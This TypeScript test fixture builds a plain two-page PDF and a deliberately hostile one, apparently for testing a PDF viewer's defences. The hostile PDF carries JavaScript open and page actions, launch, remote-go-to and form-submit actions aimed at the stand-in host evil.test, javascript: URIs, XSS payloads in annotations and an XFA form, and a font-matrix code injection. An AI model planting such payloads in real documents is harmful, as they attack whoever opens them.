// SPDX-License-Identifier: Apache-2.0
//
// pdf_files.ts: PDF documents made of text: a plain one, and one with everything by which a
// document acts on who opens it. Each attack sets window.pwned, opens a dialog or asks evil.test.

interface Page {
  words: string;
  more?: string; // entries of the dictionary of the page
}

// Objects are numbered from 1 in the order given; the first is the catalog.
function document(objects: string[]): Buffer {
  let text = "%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n";
  const places = objects.map((object, at) => {
    const place = text.length;
    text += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return place;
  });
  const table = places.map((place) => `${String(place).padStart(10, "0")} 00000 n \n`).join("");
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}` +
    `trailer\n<</Size ${objects.length + 1}/Root 1 0 R>>\nstartxref\n${text.length}\n%%EOF\n`;
  return Buffer.from(text, "latin1");
}

const stream = (content: string, more = ""): string =>
  `<</Length ${content.length}${more}>>\nstream\n${content}\nendstream`;

const fontNumber = 3;

export function pdf(pages: Page[], catalog = "", font = "", more: string[] = []): Buffer {
  const first = fontNumber + 1;
  const kids = pages.map((_, at) => `${first + at * 2} 0 R`).join(" ");
  return document([
    `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
    `<</Type/Pages/Kids[${kids}]/Count ${pages.length}>>`,
    font || "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    ...pages.flatMap((page, at) => [
      `<</Type/Page/Parent 2 0 R/MediaBox[0 0 400 300]/Contents ${first + at * 2 + 1} 0 R` +
        `/Resources<</Font<</F ${fontNumber} 0 R>>>>${page.more ?? ""}>>`,
      stream(`0.8 0.2 0.1 rg 20 20 120 60 re f BT 0 g /F 24 Tf 30 200 Td (${page.words}) Tj ET`),
    ]),
    ...more,
  ]);
}

const script = "parent.pwned=true;top.pwned=true;window.pwned=true;alert(1);" +
  "app.alert\\(1\\);app.launchURL\\('https://evil.test/js'\\)";
const action = {
  script: `<</S/JavaScript/JS(${script})>>`,
  address: "<</S/URI/URI(https://evil.test/uri)>>",
  scriptAddress: "<</S/URI/URI(javascript:top.pwned=true)>>",
  launch: "<</S/Launch/F<</F(https://evil.test/launch)/FS/URL>>/NewWindow true>>",
  remote: "<</S/GoToR/F(https://evil.test/remote.pdf)/D[0/Fit]/NewWindow true>>",
  submit: "<</S/SubmitForm/F<</FS/URL/F(https://evil.test/submit)>>/Flags 4>>",
  named: "<</S/Named/N/Print>>",
};
const everywhere = "/Rect[0 0 400 300]/F 4";
const annotations = [
  ...Object.values(action).map((does) => `<</Type/Annot/Subtype/Link${everywhere}/A ${does}>>`),
  `<</Type/Annot/Subtype/Widget/FT/Btn/T(b)${everywhere}/A ${action.script}` +
    `/AA<</E ${action.script}/X ${action.script}/D ${action.submit}>>>>`,
  `<</Type/Annot/Subtype/Widget/FT/Tx/T(t)/V(<img src=x onerror=top.pwned=true>)${everywhere}` +
    `/AA<</K ${action.script}/F ${action.script}/V ${action.script}>>>>`,
  `<</Type/Annot/Subtype/FreeText${everywhere}/Contents(<script>top.pwned=true</script>)` +
    "/RC(<body xmlns=\"http://www.w3.org/1999/xhtml\"><img src=\"https://evil.test/rc.png\" " +
    "onerror=\"top.pwned=true\"/></body>)>>",
  `<</Type/Annot/Subtype/Screen${everywhere}/A<</S/Rendition/R<</S/MR/C<</S/MCD` +
    "/D<</FS/URL/F(https://evil.test/film.mp4)>>>>>>>>>>",
];

// A font whose matrix is a piece of JavaScript: code that a reader once put into a function.
const scriptedFont = "<</Type/Font/Subtype/Type1/BaseFont/Evil/FirstChar 32/LastChar 33" +
  "/Widths[500 500]/FontMatrix[1 0 0 1 0 (0\\); top.pwned = true; alert\\(1\\))]" +
  "/FontDescriptor<</Type/FontDescriptor/FontName/Evil/Flags 4>>>>";

export const twoPages = (): Buffer => pdf([{ words: "First page" }, { words: "Second page" }]);

export function actingPdf(): Buffer {
  const form = "<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><template><subform><event " +
    "activity=\"initialize\"><script contentType=\"application/x-javascript\">top.pwned=true" +
    "</script></event></subform></template></xdp:xdp>";
  const words = "<script>top.pwned=true</script><img src=x onerror=alert(1)>"
    .replace(/[()]/g, "\\$&");
  return pdf([
    { words, more: `/Annots[${annotations.join("")}]/AA<</O ${action.script}` +
      `/C ${action.address}>>` },
    { words: "Second page", more: `/AA<</O ${action.launch}>>` },
  ], `/OpenAction ${action.script}/AA<</WC ${action.script}/DP ${action.script}>>` +
    `/Names<</JavaScript<</Names[(a) ${action.script}]>>>>/URI<</Base(javascript:)>>` +
    "/AcroForm<</NeedAppearances true/XFA 8 0 R/Fields[]>>",
  scriptedFont, [stream(form)]);
}
